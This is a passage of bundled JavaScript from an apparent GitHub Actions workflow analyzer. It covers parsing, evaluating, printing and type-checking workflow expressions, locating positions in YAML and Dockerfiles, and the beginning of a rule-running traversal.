    const inner = `${indent}  `;
    if (value instanceof ObjectValue) {
        if (value.entries.size === 0)
            return "{}";
        const lines = [...value.entries].map(([key, item]) => `${inner}${JSON.stringify(key)}: ${toJson(item, inner)}`);
        return `{\n${lines.join(",\n")}\n${indent}}`;
    }
    if (isCollection(value)) {
        if (value.length === 0)
            return "[]";
        return `[\n${value.map((item) => inner + toJson(item, inner)).join(",\n")}\n${indent}]`;
    }
    return typeof value === "number" ? numberText(value) : JSON.stringify(value);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/functions.js

/**
 * The longest text that a function gives here, in UTF-16 code units. Each `format` in a `format` can multiply a text's
 * length, so that a short expression could ask for more memory than there is; GitHub stops such a run, too.
 */
const MAX_TEXT = 100_000;
/** The functions that depend on nothing but what they are given. Undefined when the call has no value (the run would fail). */
function callFunction(name, args) {
    const [first, second] = args;
    if (first === undefined)
        return undefined;
    switch (name) {
        case "contains":
            return second === undefined ? undefined : contains(first, second);
        case "startswith":
            return second === undefined ? undefined : testText(first, second, (text, part) => text.startsWith(part));
        case "endswith":
            return second === undefined ? undefined : testText(first, second, (text, part) => text.endsWith(part));
        case "format":
            return format(toText(first), args.slice(1));
        case "join":
            return join(first, second === undefined || isCollection(second) ? "," : toText(second));
        case "tojson":
            return bounded(toJson(first));
        case "fromjson":
            return fromJson(toText(first));
        default:
            return undefined;
    }
}
function contains(haystack, needle) {
    if (Array.isArray(haystack))
        return haystack.some((item) => areEqual(item, needle));
    return testText(haystack, needle, (text, part) => text.includes(part));
}
function testText(a, b, test) {
    if (isCollection(a) || isCollection(b))
        return false;
    return test(upper(toText(a)), upper(toText(b)));
}
function bounded(text) {
    return text.length <= MAX_TEXT ? text : undefined;
}
function join(value, separator) {
    if (!Array.isArray(value))
        return isCollection(value) ? "" : toText(value);
    let result = "";
    for (const [i, item] of value.entries()) {
        result += i === 0 ? toText(item) : separator + toText(item);
        if (result.length > MAX_TEXT)
            return undefined;
    }
    return result;
}
/** `{0}` stands for an argument, `{{` and `}}` for braces; anything else in braces fails the run. */
function format(template, args) {
    let result = "";
    for (let i = 0; i < template.length; i++) {
        const char = template[i];
        if ((char === "{" || char === "}") && template[i + 1] === char) {
            result += char;
            i++;
        }
        else if (char === "{") {
            const close = template.indexOf("}", i);
            const digits = close === -1 ? "" : template.slice(i + 1, close);
            const arg = /^\d{1,3}$/.test(digits) ? args[Number(digits)] : undefined;
            if (arg === undefined)
                return undefined;
            result += toText(arg);
            if (result.length > MAX_TEXT)
                return undefined;
            i = close;
        }
        else if (char === "}")
            return undefined;
        else
            result += char;
    }
    return result;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/evaluate.js



const UNKNOWN = { known: false };
const NOTHING_KNOWN = { lookup: () => UNKNOWN };
function known(value) {
    return { known: true, value };
}
/** A value of which only the shape is known; none that has one is falsy. */
function shaped(shape) {
    return { known: false, truthy: true, shape };
}
/** True, false, or undefined when it may be either. */
function truthiness(result) {
    return result.known ? isTruthy(result.value) : result.truthy;
}
/**
 * Evaluates an expression as the runner does, as far as what is known goes: `false && unknown` is false, `unknown || true`
 * is true, `unknown && false` is something falsy.
 *
 * @see Evaluate expressions in workflows and actions
 */
function evaluate(expression, options) {
    switch (expression.kind) {
        case "literal":
            return known(expression.value);
        case "not":
            return negated(evaluate(expression.operand, options));
        case "logical":
            return logical(expression, options);
        case "binary":
            return binary(expression, options);
        case "call":
            return call(expression, options);
        default:
            return access(expression, options);
    }
}
function negated(result) {
    const truthy = truthiness(result);
    return truthy === undefined ? UNKNOWN : known(!truthy);
}
function logical({ operator, left, right }, options) {
    const first = evaluate(left, options);
    const truthy = truthiness(first);
    // `&&` gives its left side where that is falsy, `||` where it is truthy.
    const endsHere = operator === "||";
    if (truthy === endsHere)
        return first;
    const second = evaluate(right, options);
    if (truthy !== undefined)
        return second;
    return truthiness(second) === endsHere ? { known: false, truthy: endsHere } : UNKNOWN;
}
function binary({ operator, left, right }, options) {
    const a = evaluate(left, options);
    const b = evaluate(right, options);
    if (operator === "==")
        return answered(equality(a, b));
    if (operator === "!=")
        return negated(answered(equality(a, b)));
    if (!a.known || !b.known)
        return UNKNOWN;
    switch (operator) {
        case "<":
            return known(compare(a.value, b.value) < 0);
        case "<=":
            return known(areEqual(a.value, b.value) || compare(a.value, b.value) < 0);
        case ">":
            return known(compare(a.value, b.value) > 0);
        default:
            return known(areEqual(a.value, b.value) || compare(a.value, b.value) > 0);
    }
}
function answered(answer) {
    return answer === undefined ? UNKNOWN : known(answer);
}
function equality(a, b) {
    if (a.known)
        return b.known ? areEqual(a.value, b.value) : b.shape?.equals(a.value);
    return b.known ? a.shape?.equals(b.value) : undefined;
}
function call({ name, args }, options) {
    if (name === "case")
        return caseOf(args, options);
    const values = args.map((arg) => evaluate(arg, options));
    const special = options.functions?.(name, values);
    if (special)
        return special;
    const test = testOfShape(name, values);
    if (test !== undefined)
        return known(test);
    const plain = [];
    for (const value of values) {
        if (!value.known)
            return UNKNOWN;
        plain.push(value.value);
    }
    const result = callFunction(name, plain);
    return result === undefined ? UNKNOWN : known(result);
}
/** A test of a value of which only the shape is known, as far as that tells. */
function testOfShape(name, [first, second]) {
    if (!first || !second)
        return undefined;
    if (first.known)
        return name === "contains" && isMissing(first.value, second) ? false : undefined;
    const { shape } = first;
    if (!shape || !second.known || isCollection(second.value))
        return undefined;
    const part = toText(second.value);
    switch (name) {
        case "contains":
            return shape.contains(part);
        case "startswith":
            return shape.startsWith(part);
        case "endswith":
            return shape.endsWith(part);
        default:
            return undefined;
    }
}
/** Is a list surely without a value? */
function isMissing(list, item) {
    return !item.known && Array.isArray(list) && list.every((value) => item.shape?.equals(value) === false);
}
/** `case(condition, value, …, default)`: the value of the first condition that is true. A condition must be a boolean. */
function caseOf(args, options) {
    const [first, second, ...others] = args;
    if (!first)
        return UNKNOWN;
    if (!second)
        return evaluate(first, options);
    const condition = evaluate(first, options);
    if (condition.known && typeof condition.value !== "boolean")
        return UNKNOWN;
    const truthy = truthiness(condition);
    if (truthy === true)
        return evaluate(second, options);
    const otherwise = caseOf(others, options);
    return truthy === false ? otherwise : oneOf(evaluate(second, options), otherwise);
}
/** What is sure of a value that is one of two. */
function oneOf(a, b) {
    const truthy = truthiness(a);
    return truthy !== undefined && truthy === truthiness(b) ? { known: false, truthy } : UNKNOWN;
}
function access(expression, options) {
    const path = contextPath(expression);
    if (path?.exact && !path.segments.includes("*")) {
        const found = options.lookup(path.segments);
        if (truthiness(found) !== undefined)
            return found;
    }
    switch (expression.kind) {
        case "property":
            return mapped(evaluate(expression.object, options), (value) => member(value, expression.name));
        case "filter":
            return mapped(evaluate(expression.object, options), filtered);
        case "index": {
            const index = evaluate(expression.index, options);
            const object = evaluate(expression.object, options);
            return index.known ? mapped(object, (value) => memberAt(value, index.value)) : UNKNOWN;
        }
        default:
            return UNKNOWN;
    }
}
function mapped(result, map) {
    return result.known ? known(map(result.value)) : UNKNOWN;
}
/** What a filter gave: an access to it is an access to each of its items. */
class Filtered extends Array {
}
function filtered(value) {
    // A filter of what a filter gave goes one level deeper.
    if (value instanceof Filtered)
        return Filtered.from([...value].flatMap(itemsOf));
    return Filtered.from(itemsOf(value));
}
function itemsOf(value) {
    if (value instanceof ObjectValue)
        return [...value.entries.values()];
    return Array.isArray(value) ? value : [];
}
function member(value, name) {
    const read = (object) => (object instanceof ObjectValue ? object.get(name) : undefined);
    return value instanceof Filtered ? eachOf(value, read) : (read(value) ?? null);
}
function memberAt(value, index) {
    return value instanceof Filtered ? eachOf(value, (item) => itemAt(item, index)) : (itemAt(value, index) ?? null);
}
/** What an access gives for each item, without those that have nothing there. */
function eachOf(items, read) {
    const found = new Filtered();
    for (const item of items) {
        const value = read(item);
        if (value !== undefined)
            found.push(value);
    }
    return found;
}
/** An object's value by its key, an array's item by its number, whatever type the index has. */
function itemAt(value, index) {
    if (isCollection(index))
        return undefined;
    if (value instanceof ObjectValue)
        return value.get(toText(index));
    if (!Array.isArray(value))
        return undefined;
    const number = Math.floor(toNumber(index));
    return number >= 0 ? value[number] : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/arity.js
/** How many arguments functions take: the least and the most. */
const ARITIES = new Map([
    ["case", [3, 255]],
    ["contains", [2, 2]],
    ["endswith", [2, 2]],
    ["format", [1, 255]],
    ["fromjson", [1, 1]],
    ["hashfiles", [1, 255]],
    ["join", [1, 2]],
    ["startswith", [2, 2]],
    ["tojson", [1, 1]],
]);
/**
 * What is wrong with a call of a function with so many arguments, to go on after its name; undefined when nothing is, or
 * when the function isn't known here.
 *
 * @param name in lower case
 * @see actions/runner, `ExpressionConstants` and `ExpressionParser`: GitHub refuses the workflow
 */
function checkArity(name, count) {
    const arity = ARITIES.get(name);
    if (!arity)
        return undefined;
    const [least, most] = arity;
    if (count < least || count > most)
        return `takes ${rangeText(least, most)}, not ${count}`;
    if (name === "case" && count % 2 === 0)
        return `takes an odd number of arguments, not ${count}: the last is the default`;
    return undefined;
}
function rangeText(least, most) {
    if (least === most)
        return `${least} argument${least === 1 ? "" : "s"}`;
    return `${least} to ${most} arguments`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/parser.js


/** GitHub's own limits (actions/runner, `ExpressionConstants`). */
const MAX_DEPTH = 50;
const MAX_LENGTH = 21_000;
/** Operands of one chain (`a || b || …`): it becomes a tree as deep, which everything walks. */
const MAX_CHAIN = 500;
/**
 * Parses an expression, without its fence.
 *
 * @param base added to all offsets: where `text` begins in whatever holds it
 * @see Evaluate expressions in workflows and actions, "Operators" for what binds closer
 */
function parseExpression(text, base = 0) {
    try {
        if (text.length > MAX_LENGTH) {
            throw new ExpressionError(`it is longer than the ${MAX_LENGTH} characters that GitHub reads`, 0, text.length);
        }
        return { ok: true, expression: new Parser(new Lexer(text), base).parse() };
    }
    catch (error) {
        if (!(error instanceof ExpressionError))
            throw error;
        return { ok: false, error: { message: error.message, start: error.start + base, end: error.end + base } };
    }
}
const CONSTANTS = new Map([
    ["true", true],
    ["false", false],
    ["null", null],
    ["NaN", Number.NaN],
    ["Infinity", Number.POSITIVE_INFINITY],
]);
/** One method a level of precedence, the loosest first; each leaves the lexer at the first token that isn't its own. */
class Parser {
    lexer;
    base;
    depth = 0;
    constructor(lexer, base) {
        this.lexer = lexer;
        this.base = base;
    }
    parse() {
        if (this.isAt("end"))
            throw new ExpressionError("the expression is empty", 0, this.lexer.end);
        const expression = this.nested();
        if (!this.isAt("end"))
            throw this.unexpected();
        return expression;
    }
    isAt(kind) {
        return this.lexer.kind === kind;
    }
    /** A whole expression one level deeper: hostile input ends in an error here instead of an exhausted stack. */
    nested() {
        this.descend();
        const expression = this.or();
        this.depth--;
        return expression;
    }
    or() {
        let left = this.and();
        if (!this.isAt("||"))
            return left;
        this.descend();
        for (let count = 1; this.isAt("||"); count++) {
            this.limitChain(count);
            this.lexer.next();
            const right = this.and();
            left = { kind: "logical", operator: "||", left, right, start: left.start, end: right.end };
        }
        this.depth--;
        return left;
    }
    and() {
        let left = this.equality();
        if (!this.isAt("&&"))
            return left;
        this.descend();
        for (let count = 1; this.isAt("&&"); count++) {
            this.limitChain(count);
            this.lexer.next();
            const right = this.equality();
            left = { kind: "logical", operator: "&&", left, right, start: left.start, end: right.end };
        }
        this.depth--;
        return left;
    }
    equality() {
        let left = this.comparison();
        for (let count = 1; isEquality(this.lexer.kind); count++) {
            const operator = this.takeComparison(count);
            const right = this.comparison();
            left = { kind: "binary", operator, left, right, start: left.start, end: right.end };
        }
        return left;
    }
    comparison() {
        let left = this.unary();
        for (let count = 1; isOrdering(this.lexer.kind); count++) {
            const operator = this.takeComparison(count);
            const right = this.unary();
            left = { kind: "binary", operator, left, right, start: left.start, end: right.end };
        }
        return left;
    }
    takeComparison(count) {
        this.limitChain(count);
        const operator = this.lexer.kind;
        this.lexer.next();
        return operator;
    }
    unary() {
        if (!this.isAt("!"))
            return this.access();
        const start = this.lexer.start + this.base;
        this.lexer.next();
        this.descend();
        const operand = this.unary();
        this.depth--;
        return { kind: "not", operand, start, end: operand.end };
    }
    access() {
        const isGroup = this.isAt("(");
        let object = this.primary();
        // `'text'.name` is no access, `('text').name` is one.
        if (object.kind === "literal" && !isGroup)
            return object;
        const { depth } = this;
        while (this.isAt(".") || this.isAt("[")) {
            object = this.isAt(".") ? this.property(object) : this.index(object);
            this.descend();
        }
        this.depth = depth;
        return object;
    }
    property(object) {
        const { lexer } = this;
        lexer.next();
        const { start } = object;
        const end = lexer.end + this.base;
        if (lexer.kind === "name") {
            const name = lexer.text.toLowerCase();
            lexer.next();
            return { kind: "property", object, name, start, end };
        }
        if (lexer.kind !== "*")
            throw this.unexpected("a name");
        lexer.next();
        return { kind: "filter", object, start, end };
    }
    index(object) {
        this.lexer.next();
        const { start } = object;
        if (this.isAt("*")) {
            this.lexer.next();
            return { kind: "filter", object, start, end: this.take("]") };
        }
        const index = this.nested();
        return { kind: "index", object, index, start, end: this.take("]") };
    }
    primary() {
        const { lexer } = this;
        const start = lexer.start + this.base;
        const end = lexer.end + this.base;
        switch (lexer.kind) {
            case "name": {
                const written = lexer.text;
                lexer.next();
                return this.isAt("(") ? this.call(written, start) : named(written, start, end);
            }
            case "string":
            case "number": {
                const value = lexer.kind === "string" ? lexer.text : lexer.number;
                lexer.next();
                return { kind: "literal", value, start, end };
            }
            case "(":
                return this.group(start);
            default:
                throw this.unexpected("a value");
        }
    }
    /** The parentheses belong to the place of what they hold. */
    group(start) {
        this.lexer.next();
        const inner = this.nested();
        inner.start = start;
        inner.end = this.take(")");
        return inner;
    }
    call(written, start) {
        const name = written.toLowerCase();
        const args = [];
        this.lexer.next();
        while (!this.isAt(")")) {
            if (args.length > 0)
                this.take(",");
            args.push(this.nested());
        }
        const end = this.take(")");
        const problem = checkArity(name, args.length);
        if (problem)
            throw new ExpressionError(`\`${written}\` ${problem}`, start - this.base, end - this.base);
        return { kind: "call", name, written, args, start, end };
    }
    /** Goes past a token that has to be there; gives its end. */
    take(kind) {
        const { lexer } = this;
        if (lexer.kind !== kind)
            throw this.unexpected(`\`${kind}\``);
        const end = lexer.end + this.base;
        lexer.next();
        return end;
    }
    unexpected(wanted) {
        const { kind, start, end } = this.lexer;
        const what = kind === "end" ? "the expression ends" : "something else stands here";
        const message = wanted ? `${wanted} is expected, but ${what}` : "an operator is expected here";
        return new ExpressionError(message, start, end);
    }
    descend() {
        if (++this.depth <= MAX_DEPTH)
            return;
        const { start, end } = this.lexer;
        throw new ExpressionError(`it is nested deeper than the ${MAX_DEPTH} levels that GitHub reads`, start, end);
    }
    limitChain(count) {
        if (count <= MAX_CHAIN)
            return;
        const { start, end } = this.lexer;
        throw new ExpressionError(`it has more than ${MAX_CHAIN} parts in a row`, start, end);
    }
}
function isEquality(kind) {
    return kind === "==" || kind === "!=";
}
function isOrdering(kind) {
    return kind === "<" || kind === "<=" || kind === ">" || kind === ">=";
}
function named(written, start, end) {
    const value = CONSTANTS.get(written);
    if (value !== undefined)
        return { kind: "literal", value, start, end };
    return { kind: "context", name: written.toLowerCase(), start, end };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/find.js

/** Every `${{ … }}` of a text. A `}}` inside a string of the expression closes nothing (actions/runner, `TemplateReader`). */
function findExpressions(value) {
    const found = [];
    for (let start = value.indexOf("${{"); start !== -1;) {
        const bodyStart = start + 3;
        const close = closingFence(value, bodyStart);
        const bodyEnd = close === -1 ? value.length : close;
        const end = close === -1 ? value.length : close + 2;
        found.push({ start, end, bodyStart, bodyEnd, body: value.slice(bodyStart, bodyEnd), terminated: close !== -1 });
        start = value.indexOf("${{", end);
    }
    return found;
}
function closingFence(value, from) {
    const first = value.indexOf("}}", from);
    const quote = value.indexOf("'", from);
    if (first === -1 || quote === -1 || quote > first)
        return first;
    let isInString = false;
    for (let i = from; i < value.length; i++) {
        const code = value.charCodeAt(i);
        if (code === 39)
            isInString = !isInString;
        else if (code === 125 && !isInString && value.charCodeAt(i + 1) === 125)
            return i;
    }
    return -1;
}
/** @see Workflow syntax for GitHub Actions, `jobs.<job_id>.if`: the fence may be left out */
function parseCondition(value) {
    const fences = findExpressions(value);
    const [first] = fences;
    if (!first)
        return parsed(value, 0, false);
    const isAlone = fences.length === 1 && first.start === 0 && first.end === value.length;
    return isAlone ? parsed(first.body, first.bodyStart, true) : { kind: "text", fences };
}
function parsed(body, base, fenced) {
    const result = parseExpression(body, base);
    return result.ok
        ? { kind: "expression", expression: result.expression, fenced }
        : { kind: "broken", ...result.error };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/print.js
/** How closely an operator binds; operands that bind less closely need parentheses. */
const LEVELS = {
    "||": 1,
    "&&": 2,
    "==": 3,
    "!=": 3,
    "<": 4,
    "<=": 4,
    ">": 4,
    ">=": 4,
};
const UNARY = 5;
const ACCESS = 6;
/** The canonical text of an expression: one space around operators, no parentheses that change nothing. */
function printExpression(expression) {
    switch (expression.kind) {
        case "literal":
            return printLiteral(expression.value);
        case "context":
            return expression.name;
        case "property":
            return `${within(expression.object, ACCESS)}.${expression.name}`;
        case "filter":
            return `${within(expression.object, ACCESS)}.*`;
        case "index":
            return `${within(expression.object, ACCESS)}[${printExpression(expression.index)}]`;
        case "call":
            return `${expression.written}(${expression.args.map(printExpression).join(", ")})`;
        case "not":
            return `!${within(expression.operand, UNARY)}`;
        default: {
            const level = LEVELS[expression.operator];
            // Operators group from the left, so a right operand of the same level needs parentheses.
            return `${within(expression.left, level)} ${expression.operator} ${within(expression.right, level + 1)}`;
        }
    }
}
function within(expression, level) {
    const text = printExpression(expression);
    return levelOf(expression) < level ? `(${text})` : text;
}
function levelOf(expression) {
    if (expression.kind === "binary" || expression.kind === "logical")
        return LEVELS[expression.operator];
    // No access follows a bare literal: `1.x` is a broken number, and `'a'.x` is refused.
    return expression.kind === "not" || expression.kind === "literal" ? UNARY : ACCESS;
}
function printLiteral(value) {
    if (typeof value === "string")
        return `'${value.replaceAll("'", "''")}'`;
    return Object.is(value, -0) ? "-0" : String(value);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/result-leaves.js

/**
 * The expressions that a result may come from as a whole: both sides of `||`, the right one of `&&`, the values of `case`;
 * without those that what is known rules out.
 */
function resultLeaves(expression, options = NOTHING_KNOWN) {
    if (expression.kind === "call" && expression.name === "case")
        return caseLeaves(expression.args, options);
    if (expression.kind !== "logical")
        return [expression];
    const { operator, left, right } = expression;
    const truthy = truthiness(evaluate(left, options));
    // `a && b` gives `a` only where that is empty, false or zero.
    if (operator === "&&")
        return truthy === false ? [] : resultLeaves(right, options);
    return [
        ...(truthy === false ? [] : resultLeaves(left, options)),
        ...(truthy === true ? [] : resultLeaves(right, options)),
    ];
}
/** `case(condition, value, …, default)`. */
function caseLeaves(args, options) {
    const [condition, value, ...others] = args;
    if (!condition)
        return [];
    if (!value)
        return resultLeaves(condition, options);
    const truthy = truthiness(evaluate(condition, options));
    return [
        ...(truthy === false ? [] : resultLeaves(value, options)),
        ...(truthy === true ? [] : caseLeaves(others, options)),
    ];
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/shape.js

/** Some object: it equals nothing but itself, and is no text. */
const SOME_OBJECT = {
    equals: () => false,
    startsWith: () => false,
    endsWith: () => false,
    contains: () => false,
};
/** `start`, and then at least one character more. */
function textAfter(start) {
    const own = upper(start);
    const isLonger = (part) => part.length > own.length && part.startsWith(own);
    return {
        equals: (other) => shape_equality(other, isLonger),
        startsWith: (part) => sureOr(own.startsWith(upper(part)), isLonger(upper(part))),
        endsWith: (part) => sureOr(part === "", true),
        contains: (part) => sureOr(own.includes(upper(part)), true),
    };
}
/** `start`, a number, `end`. Neither of the two holds a digit. */
function textAroundNumber(start, end) {
    const [head, tail] = [upper(start), upper(end)];
    return {
        equals: (other) => shape_equality(other, (text) => fits(text, (a, b) => a === head && b === tail)),
        startsWith: (part) => sureOr(head.startsWith(upper(part)), fits(upper(part), (a, b) => a === head && tail.startsWith(b))),
        endsWith: (part) => sureOr(tail.endsWith(upper(part)), fits(upper(part), (a, b) => b === tail && head.endsWith(a))),
        contains: (part) => sureOr(head.includes(upper(part)) || tail.includes(upper(part)), fits(upper(part), (a, b) => head.endsWith(a) && tail.startsWith(b))),
    };
}
/** Other types are compared as numbers, and a text may be one. */
function shape_equality(other, mayBe) {
    return typeof other === "string" && !mayBe(upper(other)) ? false : undefined;
}
function sureOr(isSure, isPossible) {
    return isSure || (isPossible ? undefined : false);
}
/** Holds a text one number, and do what stands before and behind it pass? */
function fits(text, around) {
    const [before, behind, ...others] = text.split(/\d+/);
    return before !== undefined && behind !== undefined && others.length === 0 && around(before, behind);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/types.js
const FUNCTION_TYPES = new Map([
    ["always", "boolean"],
    ["cancelled", "boolean"],
    ["contains", "boolean"],
    ["endswith", "boolean"],
    ["failure", "boolean"],
    ["format", "string"],
    ["hashfiles", "string"],
    ["join", "string"],
    ["startswith", "boolean"],
    ["success", "boolean"],
    ["tojson", "string"],
]);
/** Contexts that are there in every run. `matrix`, `strategy` and `inputs` are null where nothing fills them. */
const OBJECTS = new Set(["env", "github", "job", "needs", "runner", "secrets", "steps", "vars"]);
/**
 * The type of an expression's result, where its form alone says it.
 *
 * @see Contexts reference; Evaluate expressions in workflows and actions, "Functions"
 */
function expressionType(expression) {
    switch (expression.kind) {
        case "literal":
            return expression.value === null ? "null" : typeof expression.value;
        case "not":
        case "binary":
            return "boolean";
        case "logical":
            return common(expressionType(expression.left), expressionType(expression.right));
        case "filter":
            return "array";
        case "context":
            return OBJECTS.has(expression.name) ? "object" : "unknown";
        case "call":
            return callType(expression.name, expression.args);
        default:
            return "unknown";
    }
}
function callType(name, args) {
    if (name !== "case")
        return FUNCTION_TYPES.get(name) ?? "unknown";
    // Conditions stand at the even places, the last argument is the default.
    const values = args.filter((_, i) => i % 2 === 1 || i === args.length - 1);
    return values.map(expressionType).reduce(common, expressionType(values[0]));
}
function common(a, b) {
    return a === b ? a : "unknown";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/index.js












/***/ }),

/***/ 5004:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  jr: () => (/* reexport */ PIN_UPKEEP),
  PQ: () => (/* reexport */ POLICIES),
  y0: () => (/* reexport */ RULES),
  OS: () => (/* reexport */ Upstream),
  k$: () => (/* reexport */ combinedOrigin),
  Fy: () => (/* reexport */ fallbackOrigin),
  EL: () => (/* reexport */ gitHubOrigin),
  io: () => (/* reexport */ mirrorOrigin),
  ZU: () => (/* reexport */ staticCheck),
  R0: () => (/* reexport */ usesMatcher)
});

// UNUSED EXPORTS: ActionsLock, CompositeAction, Dependabot, DockerAction, DockerfileInstruction, EmbeddedExpression, EnvBlock, JavaScriptAction, LockedDependency, LockedWorkflow, Matrix, NO_CONFIG, NormalJob, PERMISSION_SCOPES, PLATFORM_COOLDOWN_DAYS, Permissions, Renovate, Repository, ReusableJob, RunScript, Runner, Step, Trigger, UnknownAction, Uses, Workflow, actionOf, analyze, analyzeRepository, configSchema, constantText, cooldownDays, defineRule, envBlock, expressionsIn, filledTexts, inputsOf, isCommit, isConstant, isDigest, isOpen, isSwitchedOn, judge, lockRefusal, nameOf, normalizePath, parseConfig, parseImage, parseUses, pinningOf, readRepository, scalarsOf, stepsOf, systemOf, triggersOf, wholeExpression

// EXTERNAL MODULE: ./packages/findings/lib/index.js + 10 modules
var lib = __webpack_require__(8751);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/options.js
var config_options = __webpack_require__(1861);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/route.js
/** The way from the root of a file to an offset in it. What stands in for an alias isn't there. */
function yamlStructure({ file, root }) {
    return { file, routeTo: (offset) => routeInYaml(root, offset) };
}
function routeInYaml(root, offset) {
    const words = [];
    const entries = [];
    let part = null;
    let node = root;
    while (node && node.kind !== "scalar") {
        const into = node.kind === "map" ? intoMap(node, offset, words) : intoItems(node.items, offset);
        if (!into)
            break;
        if (into.entry) {
            entries.push(into.entry);
            part = partOf(entries) ?? part;
        }
        else if (entries.at(-1)?.key.value === "steps")
            part = into.node;
        if (into.word !== null)
            words.push(into.word);
        node = into.node;
    }
    // A comment can't stand inside a block scalar.
    const head = node?.kind === "scalar" && node.isBlock ? node.start : null;
    return { words: words.join("/"), head, part, node };
}
/** Of an entry at the top, and of a job; null deeper in. */
function partOf(entries) {
    const [top, job] = entries;
    if (entries.length === 1)
        return { start: top.key.start, end: top.value.end };
    if (entries.length > 2 || top.key.value !== "jobs" || job?.value.kind !== "map")
        return null;
    return { start: job.key.start, end: job.value.entry("steps")?.key.start ?? job.value.end };
}
function intoMap(map, offset, around) {
    for (const entry of map.entries) {
        const { key, value, alias } = entry;
        if (within(key, offset))
            return { word: null, node: key, entry };
        if (!alias && within(value, offset)) {
            return { word: isLongForm(key.value, around) ? null : key.value, node: value, entry };
        }
    }
    return undefined;
}
function intoItems(items, offset) {
    const item = items.find(({ value, alias }) => !alias && within(value, offset));
    return item && { word: wordForItem(item.value), node: item.value };
}
function within(node, offset) {
    return node.start <= offset && offset < Math.max(node.end, node.start + 1);
}
/** `container: {image: x}` says the same as `container: x`. */
const LONG_FORMS = new Map([
    ["concurrency", "group"],
    ["container", "image"],
    ["environment", "name"],
    ["runs-on", "labels"],
]);
function isLongForm(key, around) {
    return LONG_FORMS.get(around.at(-1) ?? "") === key || (key === "image" && around.at(-2) === "services");
}
/** Null for a scalar, so that `on: [push]` is the same place as `on: push`. */
function wordForItem(node) {
    if (node.kind === "scalar")
        return null;
    return node.kind === "map" ? `[${identityOf(node)}]` : "[]";
}
/** Its id; the action that a step uses, at whatever version; the ecosystem of an update entry. */
function identityOf(item) {
    const action = item.text("uses")?.split("@")[0]?.toLowerCase();
    return item.text("id") ?? action ?? item.text("package-ecosystem") ?? (item.entry("run") ? "run" : "");
}
/** An instruction is known by its beginning. */
const LONGEST_NAME = 120;
/** The way into a Dockerfile: the build stage, and the instruction by its beginning. */
function dockerfileStructure({ file, instructions }) {
    return {
        file,
        routeTo(offset) {
            const instruction = instructionAt(instructions, offset);
            if (!instruction)
                return { words: "", head: null, part: null, node: undefined };
            const { stage, start, end } = instruction;
            // Blanks are folded in what may be kept only: instructions may have a megabyte.
            const beginning = file.text.slice(start, Math.min(end, start + 4 * LONGEST_NAME));
            const text = beginning.replace(/(?:\s|[\\`][ \t]*\r?\n)+/g, " ");
            return {
                words: `${stage?.name ?? stage?.base ?? ""}/${text.slice(0, LONGEST_NAME)}`,
                head: start,
                part: null,
                node: undefined,
            };
        },
    };
}
function instructionAt(instructions, offset) {
    let low = 0;
    let high = instructions.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (instructions[middle].end <= offset)
            low = middle + 1;
        else
            high = middle;
    }
    const found = instructions[low];
    return found && found.start <= offset ? found : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/analyze.js



/** Runs rules over a repository: one traversal, whatever their number. The order of what it gives is fixed. */
function analyze(repository, options) {
    const isJudged = options.isJudged ?? (() => true);
    const personas = options.personas ?? new Map();
    const rules = options.rules.filter((rule) => (0,lib/* isHeardBy */.it)(personas.get(rule.id) ?? rule.persona, options.persona));
    const run = new Run(repository, rules, { ...options, personas });
    for (const workflow of repository.workflows)
        if (isJudged(workflow.path))
            run.workflow(workflow);
    for (const action of repository.actions)
        if (isJudged(action.path))
            run.action(action);
    for (const dependabot of repository.dependabot)
        if (isJudged(dependabot.file.path))
            run.dependabot(dependabot);
    for (const renovate of repository.renovate)
        if (isJudged(renovate.file.path))
            run.renovate(renovate);
    if (repository.lock && isJudged(repository.lock.file.path))
        run.actionsLock(repository.lock);
    for (const dockerfile of repository.dockerfiles)
        if (isJudged(dockerfile.file.path))
            run.dockerfile(dockerfile);
    run.repository();
    return { findings: run.findings.filter((finding) => isJudged(finding.location.path)), errors: run.errors };
}
class Run {
    repo;
    options;
    findings = [];
    errors = [];
    listeners = new Map();
    /** Several uses of an anchor are one place: a finding there is told once. */
    told = new Set();
    /** The file that is being judged. */
    structure;
    constructor(repo, rules, options) {
        this.repo = repo;
        this.options = options;
        for (const rule of rules) {
            const report = this.reporter(rule);
            for (const hook of HOOKS) {
                const hear = rule[hook];
                if (hear)
                    this.listenersOf(hook).push({ rule, hear, report });
            }
        }
    }
    workflow(workflow) {
        this.structure = yamlStructure(workflow.document);
        this.call("workflow", workflow);
        this.permissions(workflow);
        this.env(workflow, workflow);
        for (const job of workflow.jobs) {
            this.permissions(job);
            if (job.kind === "normal")
                this.normalJob(job);
            else
                this.reusableJob(job);
        }
    }
    action(action) {
        this.structure = yamlStructure(action.document);
        this.call("action", action);
        if (action.kind === "composite")
            for (const step of action.steps)
                this.step(step, null);
    }
    dependabot(dependabot) {
        this.structure = yamlStructure(dependabot.document);
        this.call("dependabot", dependabot);
    }
    renovate(renovate) {
        this.structure = yamlStructure(renovate.document);
        this.call("renovate", renovate);
    }
    actionsLock(lock) {
        this.structure = yamlStructure(lock.document);
        this.call("actionsLock", lock);
    }
    dockerfile(dockerfile) {
        this.structure = dockerfileStructure(dockerfile);
        this.call("dockerfile", dockerfile);
    }
    repository() {
        this.call("repository", this.repo);
    }
    normalJob(job) {
        this.call("job", job);
        this.env(job, job.workflow);
        for (const container of job.containers) {
            this.call("container", container);
            this.env(container, job.workflow);
        }
        for (const step of job.steps)
            this.step(step, job.workflow);
    }
    reusableJob(job) {
        this.call("reusableJob", job);
        this.uses({ uses: job.uses, step: null, job });
    }
    step(step, workflow) {
